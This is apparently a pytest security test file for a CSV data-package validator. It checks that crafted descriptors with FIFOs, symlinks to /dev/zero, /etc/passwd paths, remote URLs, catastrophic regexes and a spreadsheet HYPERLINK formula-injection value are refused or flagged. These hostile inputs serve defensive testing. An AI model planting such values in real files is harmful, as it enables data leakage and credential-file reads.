"""An untrusted descriptor cannot make the validator read outside the package, block on a
special file, reach the network or loosen the rules: each attempt is one exact error line.

Like the corruption corpus, a table of cases (`CASES`), each validated with the network
refused and within a time bound; test_engines_agree.py runs it through both engines.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conftest import read_rows, set_cell
from damage import (
    Case,
    Expected,
    csv_path,
    deadline,
    descriptor,
    edit_descriptor,
    edit_schema,
    invalid,
    params,
    resource,
    restamp,
    validate_cli,
)
from ukraine_talks_data._version import __version__
from ukraine_talks_data.package.json_text import JsonError, load_json
from ukraine_talks_data.package.schemas import table_schema
from ukraine_talks_data.validate import validate_package

POSIX = pytest.mark.skipif(os.name != "posix", reason="FIFOs, symlinks and SIGALRM")
pytestmark = POSIX


def _actors(package: Path, **changes: Any) -> None:
    edit_descriptor(package, lambda d: resource(d, "actors").update(changes))


def descriptor_schema_field(package: Path, table: str, index: int) -> str:
    path = package.parent / resource(descriptor(package), table)["schema"]
    name: str = json.loads(path.read_text())["fields"][index]["name"]
    return name


# Special files never block or crash --------------------------------------------------------


def fifo_as_a_table_does_not_hang(package: Path) -> Expected:
    os.mkfifo(package.parent / "data" / "pipe.csv")
    _actors(package, path="data/pipe.csv")
    return invalid(
        "data/pipe.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
        "never read) (resource 'actors' in datapackage.json)"
    )


def fifo_as_a_seed_does_not_hang(package: Path) -> Expected:
    source = read_rows(csv_path(package, "sources"))[0]
    seed = package.parent / source["path"]
    seed.unlink()
    os.mkfifo(seed)
    name = next(r["name"] for r in descriptor(package)["resources"] if r["path"] == source["path"])
    return invalid(
        f"data/sources.csv:2:path: source-unreadable: the seed file is not a regular file (a "
        f"FIFO, socket or device is never read) (value: {source['path']!r})",
        f"{source['path']}: not-a-file: the path is not a regular file (a FIFO, socket or device "
        f"is never read) (resource '{name}' in datapackage.json)",
    )


def symlink_to_dev_zero_is_refused_before_reading(package: Path) -> Expected:
    (package.parent / "data" / "zero.csv").symlink_to("/dev/zero")
    _actors(package, path="data/zero.csv")
    return invalid(
        "datapackage.json::actors.path: unsafe-path: resource path leads outside the package "
        "folder (through a symlink) (value: 'data/zero.csv')"
    )


def symlink_inside_the_package_to_a_fifo(package: Path) -> Expected:
    os.mkfifo(package.parent / "data" / "pipe")
    (package.parent / "data" / "link.csv").symlink_to("pipe")
    _actors(package, path="data/link.csv")
    return invalid(
        "data/link.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
        "never read) (resource 'actors' in datapackage.json)"
    )


def directory_as_a_table(package: Path) -> Expected:
    _actors(package, path="data")
    return invalid(
        "data: not-a-file: the path is a directory, not a file (resource 'actors' in "
        "datapackage.json)"
    )


def descriptor_that_is_a_fifo(package: Path) -> Expected:
    package.unlink()
    os.mkfifo(package)
    return invalid(
        "datapackage.json: descriptor-error: is not a regular file (a FIFO, socket or "
        "device is never read)"
    )


# Nothing reaches the network (every case runs with the network refused) ------------------


def remote_profiles_are_never_fetched(package: Path) -> Expected:
    def remote(d: dict[str, Any]) -> None:
        d["profile"] = "https://example.org/profile.json"
        d["$schema"] = "https://example.org/schema.json"
        resource(d, "actors")["profile"] = "https://example.org/resource.json"
        resource(d, "actors")["$schema"] = "https://example.org/resource-schema.json"

    edit_descriptor(package, remote)
    return Expected(0, ())


def remote_schema_or_dialect_is_refused(key: str) -> Callable[[Path], Expected]:
    def damage(package: Path) -> Expected:
        _actors(package, **{key: "https://example.org/actors.json"})
        return invalid(
            f"datapackage.json::actors.{key}: unsafe-path: {key} path is a URL; only files "
            "inside the package folder are read (value: 'https://example.org/actors.json')"
        )

    return damage


def json_schema_constraint_with_a_remote_ref_is_refused(package: Path) -> Expected:
    edit_schema(
        package,
        "actors",
        lambda s: (
            s["fields"][-1]["constraints"].__setitem__(
                "jsonSchema", {"$ref": "https://example.org/x.json"}
            )
            if "constraints" in s["fields"][-1]
            else s["fields"][-1].__setitem__(
                "constraints", {"jsonSchema": {"$ref": "https://example.org/x.json"}}
            )
        ),
    )
    last = descriptor_schema_field(package, "actors", -1)
    return invalid(
        f"schemas/actors.json::{last}.constraints.jsonSchema: schema-error: jsonSchema "
        "constraints are not supported (they can load remote schemas)"
    )


# Readers other than local UTF-8 CSV are refused, not half-honoured ------------------------


UNSUPPORTED_RESOURCE_KEYS = [
    ("compression", "zip", "compressed files are not supported; store the CSV uncompressed"),
    ("format", "xlsx", "a table must be csv"),
    ("encoding", "latin-1", "only UTF-8 is supported; convert the file to UTF-8"),
    ("scheme", "https", "only local files are read (scheme 'file')"),
    ("innerpath", "/etc/passwd", "files inside archives are not supported"),
    (
        "url",
        "https://example.org/a.csv",
        "'url' is not supported; give a relative 'path' inside the package",
    ),
    ("bytes", "many", "must be a whole number, 0 or more"),
    ("hash", "md5:zz", "must be 'sha256:' followed by 64 hex digits (or an MD5 in 32 hex digits)"),
]


def unsupported_resource_key(key: str, value: str, message: str) -> Callable[[Path], Expected]:
    def damage(package: Path) -> Expected:
        _actors(package, **{key: value})
        return invalid(
            f"datapackage.json::actors.{key}: descriptor-error: {message} (value: {value!r})"
        )

    return damage


def multipart_paths_are_refused(package: Path) -> Expected:
    _actors(package, extrapaths=["/etc/passwd"])
    return invalid(
        "datapackage.json::actors.extrapaths: descriptor-error: multipart resources are not "
        "supported; use one file per resource (value: '[\"/etc/passwd\"]')"
    )


DIALECTS: list[tuple[str, object, str, bool]] = [
    ("commentChar", "S", "null", True),
    ("delimiter", ";", '","', True),
    ("header", False, "true", True),
    ("lineTerminator", "\r\n", '"\\n"', True),  # the package's files end lines with LF
    ("delimiter", ";", '","', False),  # the older flat form, beside a canonical `csv`
]


def dialect_other_than_canonical_csv(
    key: str, value: object, canonical: str, nested: bool
) -> Callable[[Path], Expected]:
    def damage(package: Path) -> Expected:
        flat = {"csv": {key: json.loads(canonical)}, key: value}  # `csv` saying otherwise
        _actors(package, dialect={"csv": {key: value}} if nested else flat)
        shown = value if isinstance(value, str) else json.dumps(value)
        return invalid(
            f"datapackage.json::actors.dialect.{key}: dialect-error: must be {canonical}: only "
            f"the canonical CSV dialect is read (value: {shown!r})"
        )

    return damage


def resource_name_with_odd_characters(package: Path) -> Expected:
    index = next(i for i, r in enumerate(descriptor(package)["resources"]) if r["name"] == "actors")
    edit_descriptor(package, lambda d: d["resources"][index].__setitem__("name", "Actors\nX"))
    line = (
        f"datapackage.json::resources[{index}].name: descriptor-error: a resource name may hold "
        "only lowercase letters, digits, '-', '.' and '_' (value: 'Actors\\nX')"
    )
    # What follows from the renamed table is not this case's point: only the first line is.
    return Expected(1, (line,), args=("--allow-schema-changes",), then_any=True)


# Malformed schemas are errors, not tracebacks --------------------------------------------


MALFORMED_SCHEMAS: list[tuple[str, Callable[[dict[str, Any]], None], str, str]] = [
    (
        "field-description-not-text",
        lambda s: s["fields"][0].__setitem__("description", None),
        "{0}.description",
        "must be text (a JSON string) (value: 'null')",
    ),
    (
        "schema-description-not-text",
        lambda s: s.__setitem__("description", ["a", "b"]),
        "description",
        'must be text (a JSON string) (value: \'["a", "b"]\')',
    ),
    (
        "field-not-object",
        lambda s: s["fields"].__setitem__(1, "name"),
        "fields[1]",
        "a field must be a JSON object",
    ),
    (
        "bad-pattern",
        lambda s: s["fields"][0].__setitem__("constraints", {"pattern": "(("}),
        "{0}.constraints.pattern",
        "is not a valid RE2 regular expression (missing ): ((); patterns run on RE2, which "
        "has no backreferences or look-arounds (value: '((')",
    ),
    (
        "look-ahead-pattern",
        lambda s: s["fields"][0].__setitem__("constraints", {"pattern": "(?=a)a"}),
        "{0}.constraints.pattern",
        "is not a valid RE2 regular expression (invalid perl operator: (?=); patterns run on "
        "RE2, which has no backreferences or look-arounds (value: '(?=a)a')",
    ),
    (
        "json-type",
        lambda s: s["fields"][0].__setitem__("type", "object"),
        "{0}.type",
        "type is not supported; use one of: string, integer, number, boolean, date, list "
        "(value: 'object')",
    ),
    # Forms stock Frictionless reads but this validator refuses (docs/performance.md):
    (
        "datetime-type",
        lambda s: s["fields"][0].__setitem__("type", "datetime"),
        "{0}.type",
        "type is not supported; use one of: string, integer, number, boolean, date, list "
        "(value: 'datetime')",
    ),
    (  # valid Table Schema, but no type of the package's registry: load() could not read it
        "any-type",
        lambda s: s["fields"][0].__setitem__("type", "any"),
        "{0}.type",
        "type is not supported; use one of: string, integer, number, boolean, date, list "
        "(value: 'any')",
    ),
    (
        "field-format",
        lambda s: s["fields"][0].__setitem__("format", "%Y"),
        "{0}.format",
        "is not supported: typed cells are written in one canonical form (integers 42, "
        "numbers 3.5, booleans true/false, dates 2022-01-31) (value: '%Y')",
    ),
    (
        "constraint-of-another-type",
        lambda s: s["fields"][0].__setitem__("constraints", {"minimum": 3}),
        "{0}.constraints.minimum",
        "does not apply to a string field (value: '3')",
    ),
    (
        "constraint-of-another-type-an",  # the article follows the type's name
        lambda s: s["fields"][0].update(type="integer", constraints={"minLength": 1}),
        "{0}.constraints.minLength",
        "does not apply to an integer field (value: '1')",
    ),
    (
        "primary-key",
        lambda s: s.__setitem__("primaryKey", ["nope"]),
        "primaryKey",
        "no field of this name (value: 'nope')",
    ),
    (
        "no-fields",
        lambda s: s.__setitem__("fields", []),
        "fields",
        "a Table Schema needs a non-empty 'fields' list",
    ),
    (
        "negative-length",
        lambda s: s["fields"][0].__setitem__("constraints", {"minLength": -1}),
        "{0}.constraints.minLength",
        "must be a whole number, 0 or more (value: '-1')",
    ),
    (
        "list-field-in-primary-key",
        lambda s: s.__setitem__("primaryKey", [f["name"] for f in s["fields"]]),
        "primaryKey",
        "a list field cannot be part of a key (value: 'aliases')",
    ),
]


def malformed_schema(
    change: Callable[[dict[str, Any]], None], location: str, message: str
) -> Callable[[Path], Expected]:
    """With --allow-schema-changes the table has no schema but its own, refused one: the
    one error is still the schema's (its rows are counted all the same, for the
    descriptor's `rows`; the default engine once counted none, a `row-count` error)."""

    def damage(package: Path) -> Expected:
        first = descriptor_schema_field(package, "actors", 0)
        edit_schema(package, "actors", change)
        line = f"schemas/actors.json::{location.format(first)}: schema-error: {message}"
        return invalid(line, args=("--allow-schema-changes",))

    return damage


def key_twice_in_a_schema_file(package: Path) -> Expected:
    """JSON readers differ on which of two equal keys they keep: refused, as in the
    descriptor (tests/test_corruption_corpus.py)."""
    path = package.parent / "schemas" / "actors.json"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("{", '{"title": "a", "title": "b", ', 1), encoding="utf-8")
    return invalid(
        "datapackage.json::actors.schema: schema-error: schema file is not usable JSON (the "
        "key 'title' appears twice in one object, the second time on line 1; JSON readers "
        "differ on which they keep) (value: 'schemas/actors.json')"
    )


def lone_surrogate_in_a_schema_file(package: Path) -> Expected:
    """JSON may escape half a surrogate pair; the string it decodes to is not text, and
    `build` could never write it back: the file is refused as unusable."""
    edit_schema(package, "actors", lambda s: s["fields"][0].__setitem__("title", "x\udfff"))
    return invalid(
        "datapackage.json::actors.schema: schema-error: schema file is not usable JSON (a "
        "string holds \\udfff, half of a UTF-16 surrogate pair, which is not text) (value: "
        "'schemas/actors.json')"
    )


def escaped_surrogate_pair_is_one_character(package: Path) -> Expected:
    # json.dumps escapes U+1F600 as the pair \ud83d\ude00, which decodes to one character.
    edit_descriptor(package, lambda d: d.__setitem__("title", "Talks \U0001f600"))
    return Expected(0, ())


# A fork cannot loosen the rules ------------------------------------------------------------


def _loosen_quote_type(package: Path) -> None:
    def loosen(s: dict[str, Any]) -> None:
        field = next(f for f in s["fields"] if f["name"] == "quote_type")
        field["constraints"].pop("enum")

    edit_schema(package, "statements", loosen)


def loosened_schema_is_reported_and_the_reference_still_applies(package: Path) -> Expected:
    _loosen_quote_type(package)
    number = set_cell(csv_path(package, "statements"), 0, "quote_type", "rumour")
    enum = next(f for f in table_schema("statements")["fields"] if f["name"] == "quote_type")[
        "constraints"
    ]["enum"]
    return invalid(
        f"data/statements.csv:{number}:quote_type: constraint-error: must be one of: "
        f"{', '.join(enum)} (value: 'rumour')",
        "schemas/statements.json::quote_type.constraints.enum: schema-changed: is missing; the "
        f"reference schema has {json.dumps(enum)} (ukraine-talks-data {__version__}; "
        "--allow-schema-changes skips this for a derived package)",
    )


def loosened_schema_is_accepted_with_allow_schema_changes(package: Path) -> Expected:
    _loosen_quote_type(package)
    set_cell(csv_path(package, "statements"), 0, "quote_type", "rumour")
    return Expected(0, (), args=("--allow-schema-changes",))


def date_typed_as_text_keeps_the_rules_on_dates(package: Path) -> Expected:
    """A fork may type statements.date as a string (with --allow-schema-changes); the rules
    on dates still read its canonical dates, as the rules on rows do. (The whole-column
    rules asked the key store for a DATE column it made only for date fields: the
    validator failed.)"""

    def as_text(schema: dict[str, Any]) -> None:
        next(f for f in schema["fields"] if f["name"] == "date")["type"] = "string"

    edit_schema(package, "statements", as_text)
    statements, events = csv_path(package, "statements"), csv_path(package, "events")
    rows = read_rows(statements)
    alone = Counter(r["utterance_id"] for r in rows)  # an utterance's rows agree on dates
    index, made_at = next(
        (i, r) for i, r in enumerate(rows)
        if r["event_relation"] == "made_at" and not r["date_earliest"]
        and alone[r["utterance_id"]] == 1
    )  # fmt: skip
    event = next(e for e in read_rows(events) if e["event_id"] == made_at["event_id"])
    assert event["date_precision"] == "day"
    day_before = str(dt.date.fromisoformat(event["date"]) - dt.timedelta(days=1))
    number = set_cell(statements, index, "date", day_before)
    return invalid(
        f"data/statements.csv:{number}:date: made-at-outside-event: made_at {event['event_id']}, "
        f"which lasts from {event['date']} to {event['end_date'] or event['date']} "
        f"(value: '{day_before}')",
        args=("--allow-schema-changes",),
    )


def dropped_table_is_reported(package: Path) -> Expected:
    edit_descriptor(
        package,
        lambda d: d.__setitem__(
            "resources", [r for r in d["resources"] if r["name"] != "evidence"]
        ),
    )
    return invalid(
        "datapackage.json::evidence: missing-resource: the package has no table of this name; "
        "the reference package has it"
    )


# Spreadsheet formulas: a warning, not an error ---------------------------------------------


FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'


def formula_in_a_text_cell_is_a_warning(package: Path) -> Expected:
    number = set_cell(csv_path(package, "actors"), 0, "notes", FORMULA)
    return Expected(
        0,
        (
            f"data/actors.csv:{number}:notes: warning: formula-injection: a spreadsheet opening "
            "this CSV would run the cell as a formula; reword it so it does not start with '=', "
            f"'+', '-' or '@' (exports prefix such cells with ') (value: {FORMULA!r})",
        ),
    )


CASES: list[Case] = [
    Case("fifo_as_a_table_does_not_hang", fifo_as_a_table_does_not_hang),
    Case("fifo_as_a_seed_does_not_hang", fifo_as_a_seed_does_not_hang),
    Case(
        "symlink_to_dev_zero_is_refused_before_reading",
        symlink_to_dev_zero_is_refused_before_reading,
    ),
    Case("symlink_inside_the_package_to_a_fifo", symlink_inside_the_package_to_a_fifo),
    Case("directory_as_a_table", directory_as_a_table),
    Case("descriptor_that_is_a_fifo", descriptor_that_is_a_fifo),
    Case("remote_profiles_are_never_fetched", remote_profiles_are_never_fetched),
    *(
        Case(f"remote_schema_or_dialect_is_refused-{key}", remote_schema_or_dialect_is_refused(key))
        for key in ["schema", "dialect"]
    ),
    Case(
        "json_schema_constraint_with_a_remote_ref_is_refused",
        json_schema_constraint_with_a_remote_ref_is_refused,
    ),
    *(
        Case(f"unsupported_resource_keys-{key}", unsupported_resource_key(key, value, message))
        for key, value, message in UNSUPPORTED_RESOURCE_KEYS
    ),
    Case("multipart_paths_are_refused", multipart_paths_are_refused),
    *(
        Case(
            f"dialect_other_than_canonical_csv-{key}-{'csv' if nested else 'flat'}",
            dialect_other_than_canonical_csv(key, v, c, nested),
        )
        for key, v, c, nested in DIALECTS
    ),
    Case("resource_name_with_odd_characters", resource_name_with_odd_characters),
    *(
        Case(f"malformed_schema-{name}", malformed_schema(change, location, message))
        for name, change, location, message in MALFORMED_SCHEMAS
    ),
    Case(
        "loosened_schema_is_reported_and_the_reference_still_applies",
        loosened_schema_is_reported_and_the_reference_still_applies,
    ),
    Case(
        "loosened_schema_is_accepted_with_allow_schema_changes",
        loosened_schema_is_accepted_with_allow_schema_changes,
    ),
    Case(
        "date_typed_as_text_keeps_the_rules_on_dates",
        date_typed_as_text_keeps_the_rules_on_dates,
    ),
    Case("key_twice_in_a_schema_file", key_twice_in_a_schema_file),
    Case("lone_surrogate_in_a_schema_file", lone_surrogate_in_a_schema_file),
    Case("escaped_surrogate_pair_is_one_character", escaped_surrogate_pair_is_one_character),
    Case("dropped_table_is_reported", dropped_table_is_reported),
    Case("formula_in_a_text_cell_is_a_warning", formula_in_a_text_cell_is_a_warning),
]


@pytest.mark.parametrize("case", params(CASES))
def test_safety(package: Path, case: Case, no_network: list[str]) -> None:
    expected = case.damage(package)
    with deadline(60):
        code, lines = validate_cli(package, *expected.args)
    expected.check(code, lines)
    assert no_network == []


def test_formula_warning_leaves_the_report_valid(package: Path) -> None:
    formula_in_a_text_cell_is_a_warning(package)
    report = validate_package(package)
    assert report.valid
    assert [(i.code, i.severity) for i in report.issues] == [("formula-injection", "warning")]


# Both engines, explicitly: the engines test runs only the case tables above.
ENGINES = pytest.mark.parametrize("engine", ["columns", "frictionless"])


@ENGINES
def test_table_files_have_no_size_limit_seeds_do(
    package: Path, engine: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A table file of any size is read (a 1M-statement package has 400 MB tables); other
    files keep their limit. Here the limit is lowered below every seed's size."""
    from ukraine_talks_data.validate.inputs import files

    root = package.parent
    seeds = sorted(p.relative_to(root).as_posix() for p in (root / "seeds").iterdir())
    limit = min((root / s).stat().st_size for s in seeds) - 1
    tables = [p for p in (root / "data").glob("*.csv") if p.stat().st_size > limit]
    monkeypatch.setattr(files, "MAX_FILE_BYTES", limit)
    report = validate_package(package, engine=engine)  # type: ignore[arg-type]
    assert tables  # some table files are larger than the limit, and no issue names them
    assert not [i for i in report.issues if i.file.startswith("data/") and i.field != "path"]
    unreadable = [i for i in report.issues if i.code == "source-unreadable"]
    assert {i.message for i in unreadable} == {f"the seed file is larger than {limit:,} bytes"}
    assert sorted(str(i.value) for i in unreadable) == seeds
    resources = [i for i in report.issues if i.code == "file-too-large"]
    assert sorted(i.file for i in resources) == seeds


@ENGINES
def test_a_length_beyond_any_text_is_checked_not_crashed_on(package: Path, engine: str) -> None:
    """JSON allows minLength 10**30: every name is shorter, none is refused with a crash."""

    def huge(s: dict[str, Any]) -> None:
        field = next(f for f in s["fields"] if f["name"] == "name")
        field["constraints"]["minLength"] = 10**30

    edit_schema(package, "actors", huge)
    code, lines = validate_cli(package, "--allow-schema-changes", "--engine", engine)
    names = [r["name"] for r in csv.DictReader(csv_path(package, "actors").open(encoding="utf-8"))]
    assert code == 1
    assert lines == [
        f"data/actors.csv:{n}:name: constraint-error: must be at least {10**30} characters "
        f"long (value: {name!r})"
        for n, name in enumerate(names, start=2)
    ]


# Pathological sizes finish in seconds with a bounded report (standalone tests)


@ENGINES
def test_a_row_with_200000_extra_cells_is_cut_after_100(package: Path, engine: str) -> None:
    path = csv_path(package, "actors")
    lines = path.read_text(encoding="utf-8").split("\n")
    width = len(next(csv.reader([lines[0]])))
    lines[1] += ",x" * 200_000
    path.write_text("\n".join(lines), encoding="utf-8")
    restamp(path, package)
    with deadline(300):
        code, out = validate_cli(package, "--engine", engine)
    assert code == 1
    listed = [
        f"data/actors.csv:2:column {width + n}: extra-cell: the row has more cells than the "
        "header (value: 'x')"
        for n in range(1, 101)
    ]
    summary = (
        f"data/actors.csv:2:column {width + 101}: extra-cell: the row has 200000 cells more than "
        "the header; the first 100 are reported one by one, the other 199900 (columns "
        f"{width + 101} to {width + 200_000}) only here (value: 'x')"
    )
    assert out == [*listed, summary]  # by column number, not as text (100 before 12)


@ENGINES
def test_a_header_with_200000_extra_labels_is_cut_after_100(package: Path, engine: str) -> None:
    # Rows lack a cell under each label: every one would be a missing-cell (200000 per row).
    path = csv_path(package, "actors")
    lines = path.read_text(encoding="utf-8").split("\n")
    width = len(next(csv.reader([lines[0]])))
    rows = len([line for line in lines[1:] if line])
    lines[0] += "".join(f",x{n}" for n in range(200_000))
    path.write_text("\n".join(lines), encoding="utf-8")
    restamp(path, package)
    with deadline(300):
        code, out = validate_cli(
            package, "--engine", engine, "--allow-schema-changes", "--issue-limit", "0"
        )
    assert code == 1
    labels = [
        f"data/actors.csv:1:column {width + 1 + n}: extra-label: the header has a column the "
        f"schema does not define; remove it (value: 'x{n}')"
        for n in range(100)
    ]
    summary = (
        f"data/actors.csv:1:column {width + 101}: extra-label: the header has 200000 labels more "
        "than the schema defines; the first 100 are reported one by one, the other 199900 "
        f"(columns {width + 101} to {width + 200_000}) only here (value: 'x100')"
    )
    missing = [
        f"data/actors.csv:{row}:x{n}: missing-cell: the row has fewer cells than the header: "
        "this column is missing"
        for row in range(2, rows + 2)
        for n in range(100)
    ]
    assert sorted(out) == sorted([*labels, summary, *missing])


@ENGINES
def test_a_path_of_100000_characters_is_refused(package: Path, engine: str) -> None:
    _actors(package, path="a" * 100_000)
    with deadline(60):
        code, lines = validate_cli(package, "--engine", engine)
    assert code == 1
    assert lines == [
        "datapackage.json::actors.path: unsafe-path: resource path is too long (100000 bytes, "
        "the longest name 100000); a path may have at most 1024 bytes, 255 per name (value: "
        f"'{'a' * 59}…{'a' * 59}')"
    ]


@ENGINES
def test_a_catastrophic_pattern_runs_in_linear_time(package: Path, engine: str) -> None:
    # Python's re takes about 2**40 steps for this cell; RE2, forty-one.
    def nested(s: dict[str, Any]) -> None:
        field = next(f for f in s["fields"] if f["name"] == "name")
        field["constraints"]["pattern"] = "([^!]+)+"

    edit_schema(package, "actors", nested)
    value = "a" * 40 + "!"
    number = set_cell(csv_path(package, "actors"), 0, "name", value)
    with deadline(120):
        code, lines = validate_cli(package, "--allow-schema-changes", "--engine", engine)
    assert code == 1
    assert lines == [
        f"data/actors.csv:{number}:name: constraint-error: must match the pattern ([^!]+)+ "
        f"(value: {value!r})"
    ]


@ENGINES
def test_a_descriptor_of_20000_resources_is_read_in_linear_time(package: Path, engine: str) -> None:
    count = 20_000
    schema = {"fields": [{"name": "a", "type": "integer"}]}

    def many(d: dict[str, Any]) -> None:
        d["resources"] += [
            {"name": f"extra{i}", "path": f"data/none{i}.csv", "schema": schema}
            for i in range(count)
        ]

    edit_descriptor(package, many)
    with deadline(600):
        code, lines = validate_cli(package, "--allow-schema-changes", "--engine", engine)
    assert code == 1
    assert sorted(lines) == sorted(
        f"data/none{i}.csv: file-missing: no file at this path (resource 'extra{i}' in "
        "datapackage.json)"
        for i in range(count)
    )


DEEP = '{"d":' + '{"x":' * 900 + '{\n"a": 1,\n"a": 2}' + "}" * 900 + "}"


@pytest.mark.parametrize(
    ("text", "key", "line"),
    [('{"a": 1,\n"a": 2}', "a", 2),
     ('{"a": 1,\n "a": {"b": 1,\n "b": 2}}', "b", 3),  # the inner object closes first
     ('{"n\\u0061me": 1,\n "name": 2}', "name", 2),  # keys compared as decoded
     ('{"s": "{\\"t\\": 1, \\"t\\": 2}",\n "t": [1, "}"],\n "t": 3}', "t", 3),  # text in strings
     ('[{"k": [1, {"k": 1}]},\n\n  {"k": 1, "k": 1}]', "k", 3),
     (DEEP, "a", 3)],  # deeper than Python's own recursion would go
)  # fmt: skip
def test_a_key_twice_is_placed_on_the_line_it_comes_again(text: str, key: str, line: int) -> None:
    with pytest.raises(JsonError) as raised:
        load_json(text.encode())
    assert raised.value.line == line
    assert str(raised.value) == (
        f"not usable JSON (the key {key!r} appears twice in one object, the second time on "
        f"line {line}; JSON readers differ on which they keep)"
    )
